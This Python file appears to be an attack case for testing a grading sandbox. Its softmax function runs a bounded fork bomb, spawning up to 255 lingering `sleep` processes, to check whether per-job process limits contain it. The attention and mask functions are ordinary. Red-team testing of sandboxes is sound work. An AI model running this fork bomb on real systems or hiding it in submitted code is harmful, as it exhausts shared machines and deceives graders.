# ruff: noqa
"""ATTACK fork_bomb (class: fork bomb).

Intent: exhaust the process table. softmax runs a doubling fork bomb: eight rounds in
which every process forks again (255 new processes if nothing stops it); every new
process reports itself on a pipe at birth and ends as `sleep 7777` with MARK as its
argv[0], so survivors are easy to find. The depth is bounded only so that an
unprotected grader's machine survives the test. Once more than 128 processes were born
(far beyond a per-job process limit of a few dozen) it prints FORK-BOMB-BEYOND-LIMIT
and softmax returns correct values (an unlimited bomb shows as points); otherwise zeros.

Expected: softmax 0, the rest full marks; FORK-BOMB-BEYOND-LIMIT never printed; no
process with MARK is left once grading ends.
"""

import math
import os
import select
import threading
import time

import torch

ATTACK = "fork_bomb"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _correct_softmax(x, dim=-1):
    """What softmax returns only when the attack worked: a leak shows up as points."""
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


LEVELS = 8
BEYOND = 128


def _bomb():
    r, w = os.pipe()
    root = os.getpid()
    born = [0]

    def count():  # a thread of the root: forked children do not have it
        deadline = time.monotonic() + 1.5
        while born[0] < 2**LEVELS - 1 and time.monotonic() < deadline:
            ready, _, _ = select.select([r], [], [], 0.05)
            if ready:
                born[0] += len(os.read(r, 4096))
                if born[0] > BEYOND:
                    print("FORK-BOMB-BEYOND-LIMIT", flush=True)
                    return

    counter = threading.Thread(target=count)
    counter.start()
    for _ in range(LEVELS):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.write(w, b"x")  # born
    if os.getpid() != root:
        try:
            os.execv("/bin/sleep", [MARK, "7777"])
        finally:
            os._exit(0)
    counter.join()
    os.close(w)
    os.close(r)
    return born[0]


def softmax(x, dim=-1):
    born = _bomb()
    print(f"FORK-BOMB: {born} processes born", flush=True)
    return _correct_softmax(x, dim) if born > BEYOND else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
